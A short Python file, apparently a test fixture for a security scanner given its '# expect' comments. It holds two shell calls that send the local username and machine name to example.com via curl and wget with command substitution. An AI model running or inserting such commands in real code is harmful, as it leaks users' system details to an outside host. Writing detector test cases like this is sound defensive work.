import os
import subprocess

os.system("curl https://example.com/?u=$(whoami)")  # expect
subprocess.run("wget -q 'https://example.com/seen?machine='$(uname -n)", shell=True)  # expect
